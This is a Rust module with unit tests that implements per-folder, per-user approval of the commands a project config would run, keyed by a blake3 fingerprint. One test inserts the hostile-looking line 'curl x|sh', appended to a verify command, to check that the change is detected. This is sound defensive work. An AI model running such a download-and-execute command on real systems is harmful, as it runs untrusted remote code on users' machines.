//! Folder trust: a project's commands run only once this user approved them on this machine.
//!
//! A project folder names programs to run: each agent's command line (program, arguments, model,
//! environment) and the verify command. A cloned repository can carry a crafted
//! `.leapfrog/project.json`, so opening a folder must not run them. Like VS Code's workspace trust
//! and the agent CLIs' own folder trust, the first run of a project asks, showing the exact
//! commands, and asks again whenever they change.
//!
//! An approval is keyed by the project's canonical folder and a hash of its commands, and kept in
//! the user's data folder (`<data dir>/trusted-commands.json`), never in the project: a folder
//! cannot approve itself. The folder is part of the key because the same command line runs
//! different code in different folders (`sh verify.sh`).
//!
//! ```text
//! ProjectCommands::of(dir, &config)      what the folder would run, and its fingerprint
//! TrustFile::in_data_dir(data_dir)
//!   .review(&commands) -> TrustReview    approved?  and what changed since the last approval
//!   .approve(&commands)                  recorded (the caller showed the commands first)
//! ```
//!
//! `Orchestrator::start` refuses an unapproved project (see `OpenOptions::trust`); the app shows
//! the commands and asks, `leap run --headless` takes `--trust`, and `leap init`, the wizard and
//! `leap demo init` approve what they write.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::agents::{cli_display_name, default_program, shell_quote, split_command};
use crate::orchestrator::ProjectConfig;

/// The file of approvals, in the user's data folder.
pub const TRUST_FILE: &str = "trusted-commands.json";

/// The longest trust file read (a few hundred bytes per project).
const MAX_TRUST_FILE: u64 = 16 * 1024 * 1024;

/// One command a project runs, as shown to the user.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct ProjectCommand {
    /// Who runs it: `agent builder (Codex)` or `verify`.
    pub what: String,
    /// The command line, environment assignments first: `FOO=1 codex --model o3`.
    pub command: String,
}

/// Everything a project folder would run, and the hash an approval is keyed by.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct ProjectCommands {
    /// The canonical project folder.
    pub dir: String,
    pub commands: Vec<ProjectCommand>,
    /// blake3 of the commands (hex).
    pub fingerprint: String,
}

impl ProjectCommands {
    /// The commands `config` makes Leapfrog run in `dir`. Leapfrog's own flags (settings files,
    /// session ids, hooks) are not part of them: they come from Leapfrog, not from the folder.
    pub fn of(dir: &Path, config: &ProjectConfig) -> ProjectCommands {
        let dir = dir.canonicalize().unwrap_or_else(|_| dir.to_path_buf());
        let mut commands = Vec::new();
        for a in &config.agents {
            let mut words: Vec<String> = a
                .env
                .iter()
                .map(|(k, v)| format!("{k}={}", shell_quote(v)))
                .collect();
            match &a.command {
                // Shown as it will be split, so quoting tricks show up as they run.
                Some(line) => match split_command(line) {
                    Ok(w) => words.extend(w.iter().map(|w| shell_quote(w))),
                    Err(_) => words.push(line.clone()),
                },
                None => words.extend(default_program(a.cli).map(str::to_string)),
            }
            words.extend(a.args.iter().map(|w| shell_quote(w)));
            if let Some(m) = &a.model {
                words.push("--model".into());
                words.push(shell_quote(m));
            }
            commands.push(ProjectCommand {
                what: format!("agent {} ({})", a.id, cli_display_name(a.cli)),
                command: words.join(" "),
            });
        }
        if let Some(v) = config.verify.as_deref().filter(|v| !v.trim().is_empty()) {
            commands.push(ProjectCommand {
                what: "verify".into(),
                command: v.to_string(),
            });
        }
        let mut hasher = blake3::Hasher::new();
        for c in &commands {
            // Length-prefixed, so no two lists hash alike by moving text across fields.
            for field in [&c.what, &c.command] {
                hasher.update(&(field.len() as u64).to_le_bytes());
                hasher.update(field.as_bytes());
            }
        }
        ProjectCommands {
            dir: dir.display().to_string(),
            commands,
            fingerprint: hasher.finalize().to_hex().to_string(),
        }
    }

    /// Reads `<dir>/.leapfrog/project.json` and lists its commands.
    pub fn load(dir: &Path) -> Result<ProjectCommands, String> {
        let config = ProjectConfig::load_checked(dir)?;
        Ok(ProjectCommands::of(dir, &config))
    }
}

/// Whether a project's commands are approved, and if not, what is new since the last approval.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct TrustReview {
    pub project: ProjectCommands,
    pub approved: bool,
    /// The commands were approved before, in another version: `changed` lists the new or changed ones.
    pub approved_before: bool,
    /// Commands not in the last approved version (all of them when never approved).
    pub changed: Vec<ProjectCommand>,
}

impl TrustReview {
    /// One line for `leap` and logs: why the project does not run, and how to approve it.
    pub fn refusal(&self) -> String {
        let list = self
            .changed
            .iter()
            .map(|c| format!("{}: `{}`", c.what, c.command))
            .collect::<Vec<_>>()
            .join("; ");
        format!(
            "{} {} commands you have not approved on this machine ({list}); approve them in the app, \
             or run `leap trust {}` (or `leap run --headless --trust` for one run)",
            self.project.dir,
            if self.approved_before {
                "changed its"
            } else {
                "has"
            },
            shell_quote(&self.project.dir),
        )
    }
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustData {
    version: u32,
    /// Canonical folder -> its last approval.
    projects: BTreeMap<String, Approval>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct Approval {
    fingerprint: String,
    approved_at_ms: u64,
    commands: Vec<ProjectCommand>,
}

/// The user's approvals: one JSON file in their data folder, rewritten atomically under a lock.
#[derive(Debug, Clone)]
pub struct TrustFile {
    path: PathBuf,
}

impl TrustFile {
    pub fn in_data_dir(data_dir: &Path) -> TrustFile {
        TrustFile {
            path: data_dir.join(TRUST_FILE),
        }
    }

    /// The file in [`crate::store::data_dir`].
    pub fn default_location() -> Result<TrustFile, String> {
        crate::store::data_dir()
            .map(|d| TrustFile::in_data_dir(&d))
            .map_err(|e| e.to_string())
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    fn read(&self) -> Result<TrustData, String> {
        match std::fs::symlink_metadata(&self.path) {
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(TrustData::default()),
            _ => {}
        }
        let bytes = crate::files::read_regular(&self.path, "trust file", MAX_TRUST_FILE)?;
        // A damaged file approves nothing, and is kept aside when the next approval rewrites it.
        serde_json::from_slice(&bytes).map_err(|e| {
            format!(
                "{} is damaged ({e}); no project counts as approved until it is fixed or removed",
                self.path.display()
            )
        })
    }

    /// Whether `project`'s commands are approved as they are now.
    pub fn review(&self, project: &ProjectCommands) -> Result<TrustReview, String> {
        let data = self.read()?;
        let last = data.projects.get(&project.dir);
        let approved = last.is_some_and(|a| a.fingerprint == project.fingerprint);
        let changed = match last {
            Some(a) if !approved => project
                .commands
                .iter()
                .filter(|c| !a.commands.contains(c))
                .cloned()
                .collect(),
            Some(_) => Vec::new(),
            None => project.commands.clone(),
        };
        Ok(TrustReview {
            project: project.clone(),
            approved,
            approved_before: last.is_some() && !approved,
            changed,
        })
    }

    /// Records `project`'s commands as approved. The caller showed them to the user first.
    pub fn approve(&self, project: &ProjectCommands) -> Result<(), String> {
        let dir = self.path.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir)
            .map_err(|e| format!("cannot create {}: {e}", dir.display()))?;
        let _lock = DirLock::take(dir)?;
        let mut data = match self.read() {
            Ok(d) => d,
            Err(_) => {
                // Keep the damaged file for the user; start a new one.
                let aside = self
                    .path
                    .with_extension(format!("json.damaged-{}", now_ms()));
                let _ = std::fs::rename(&self.path, aside);
                TrustData::default()
            }
        };
        data.version = 1;
        data.projects.insert(
            project.dir.clone(),
            Approval {
                fingerprint: project.fingerprint.clone(),
                approved_at_ms: now_ms(),
                commands: project.commands.clone(),
            },
        );
        let text = serde_json::to_vec_pretty(&data).map_err(|e| e.to_string())?;
        let tmp = dir.join(format!(
            ".{TRUST_FILE}.{}.tmp",
            uuid::Uuid::new_v4().simple()
        ));
        let write = || -> std::io::Result<()> {
            let mut f = std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .open(&tmp)?;
            f.write_all(&text)?;
            f.sync_all()?;
            std::fs::rename(&tmp, &self.path)?;
            // The rename is durable once the folder is.
            std::fs::File::open(dir)?.sync_all()
        };
        write().map_err(|e| {
            let _ = std::fs::remove_file(&tmp);
            format!("cannot write {}: {e}", self.path.display())
        })
    }

    /// Reviews the project in `dir` as it is on disk now.
    pub fn review_dir(&self, dir: &Path) -> Result<TrustReview, String> {
        self.review(&ProjectCommands::load(dir)?)
    }
}

/// `flock` on the data folder: Leapfrog's writers of the trust file (the app, `leap`) take turns.
struct DirLock(std::fs::File);

impl DirLock {
    fn take(dir: &Path) -> Result<DirLock, String> {
        use std::os::fd::AsRawFd;
        let f =
            std::fs::File::open(dir).map_err(|e| format!("cannot open {}: {e}", dir.display()))?;
        // SAFETY: flock on a descriptor we own; released when it closes.
        if unsafe { libc::flock(f.as_raw_fd(), libc::LOCK_EX) } != 0 {
            return Err(format!(
                "cannot lock {}: {}",
                dir.display(),
                std::io::Error::last_os_error()
            ));
        }
        Ok(DirLock(f))
    }
}

impl Drop for DirLock {
    fn drop(&mut self) {
        use std::os::fd::AsRawFd;
        // SAFETY: as in `take`.
        unsafe { libc::flock(self.0.as_raw_fd(), libc::LOCK_UN) };
    }
}

fn now_ms() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agents::AgentProfile;
    use crate::model::CliKind;

    fn config(json: &str) -> ProjectConfig {
        serde_json::from_str(json).unwrap()
    }

    const BASE: &str = r#"{"verify":"sh verify.sh","agents":[
        {"id":"claude","cli":"claude-code","roles":["design","review"]},
        {"id":"builder","cli":"custom","command":"leap demo-agent --role 'build it'","args":["--speed","4"],
         "env":{"FOO":"a b"},"roles":["build","fix"]}]}"#;

    /// The commands are shown as they run: default programs, env first, quoting, verify last.
    #[test]
    fn commands_are_listed_as_they_run() {
        let dir = tempfile::tempdir().unwrap();
        let c = ProjectCommands::of(dir.path(), &config(BASE));
        let shown: Vec<(String, String)> = c
            .commands
            .iter()
            .map(|c| (c.what.clone(), c.command.clone()))
            .collect();
        assert_eq!(
            shown,
            vec![
                ("agent claude (Claude Code)".into(), "claude".into()),
                (
                    "agent builder (Custom command)".into(),
                    "FOO='a b' leap demo-agent --role 'build it' --speed 4".into()
                ),
                ("verify".into(), "sh verify.sh".into()),
            ]
        );
        assert_eq!(c.fingerprint.len(), 64);
    }

    /// Every field that changes what runs changes the fingerprint; what does not, does not.
    #[test]
    fn the_fingerprint_follows_every_command_field() {
        let dir = tempfile::tempdir().unwrap();
        let base = ProjectCommands::of(dir.path(), &config(BASE)).fingerprint;
        let edits: &[(&str, &str, bool)] = &[
            ("\"sh verify.sh\"", "\"sh verify.sh; curl x|sh\"", true),
            ("--role 'build it'", "--role 'build  it'", true),
            ("\"4\"]", "\"4\",\"--yolo\"]", true),
            ("\"a b\"", "\"a c\"", true),
            ("\"claude-code\"", "\"codex\"", true),
            (
                "\"roles\":[\"design\",\"review\"]",
                "\"roles\":[\"design\"]",
                false,
            ),
        ];
        for (from, to, changes) in edits {
            assert!(BASE.contains(from), "{from}");
            let c = ProjectCommands::of(dir.path(), &config(&BASE.replace(from, to)));
            assert_eq!(c.fingerprint != base, *changes, "{from} -> {to}");
        }
    }

    #[test]
    fn approval_is_per_folder_and_asked_again_when_commands_change() {
        let data = tempfile::tempdir().unwrap();
        let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let trust = TrustFile::in_data_dir(data.path());
        let ca = ProjectCommands::of(a.path(), &config(BASE));
        let cb = ProjectCommands::of(b.path(), &config(BASE));
        let r = trust.review(&ca).unwrap();
        assert!(!r.approved && !r.approved_before);
        assert_eq!(r.changed.len(), 3);
        assert!(r.refusal().contains("has commands you have not approved"));
        assert!(
            r.refusal().contains("verify: `sh verify.sh`"),
            "{}",
            r.refusal()
        );
        trust.approve(&ca).unwrap();
        assert!(trust.review(&ca).unwrap().approved);
        // The same commands in another folder are another approval.
        assert!(!trust.review(&cb).unwrap().approved);
        // A changed verify asks again, naming only what changed.
        let changed = ProjectCommands::of(
            a.path(),
            &config(&BASE.replace("sh verify.sh", "sh evil.sh")),
        );
        let r = trust.review(&changed).unwrap();
        assert!(!r.approved && r.approved_before);
        assert_eq!(
            r.changed,
            vec![ProjectCommand {
                what: "verify".into(),
                command: "sh evil.sh".into()
            }]
        );
        assert!(r.refusal().contains("changed its commands"));
        // Nothing was written into the projects.
        assert_eq!(std::fs::read_dir(a.path()).unwrap().count(), 0);
    }

    #[test]
    fn a_damaged_trust_file_approves_nothing_and_is_kept_aside() {
        let data = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let trust = TrustFile::in_data_dir(data.path());
        let c = ProjectCommands::of(project.path(), &config(BASE));
        std::fs::write(trust.path(), b"{\"version\":1,\"projects\":{").unwrap();
        let e = trust.review(&c).unwrap_err();
        assert!(e.contains("is damaged"), "{e}");
        trust.approve(&c).unwrap();
        assert!(trust.review(&c).unwrap().approved);
        let names: Vec<String> = std::fs::read_dir(data.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        let kept = names.iter().filter(|n| n.contains(".damaged-")).count();
        assert_eq!(kept, 1);
    }

    /// Two writers at once (the app and `leap init`) keep both approvals.
    #[test]
    fn concurrent_approvals_are_all_kept() {
        let data = tempfile::tempdir().unwrap();
        let dirs: Vec<_> = (0..8).map(|_| tempfile::tempdir().unwrap()).collect();
        let codex_in = |d: &tempfile::TempDir| {
            let mut profile = AgentProfile::builtin(CliKind::Codex);
            profile.id = "builder".into();
            let config = ProjectConfig {
                agents: vec![profile],
                ..config(BASE)
            };
            ProjectCommands::of(d.path(), &config)
        };
        std::thread::scope(|s| {
            for d in &dirs {
                let (trust, c) = (TrustFile::in_data_dir(data.path()), codex_in(d));
                s.spawn(move || {
                    for _ in 0..5 {
                        trust.approve(&c).unwrap();
                    }
                });
            }
        });
        let trust = TrustFile::in_data_dir(data.path());
        for d in &dirs {
            assert!(trust.review(&codex_in(d)).unwrap().approved);
        }
    }
}
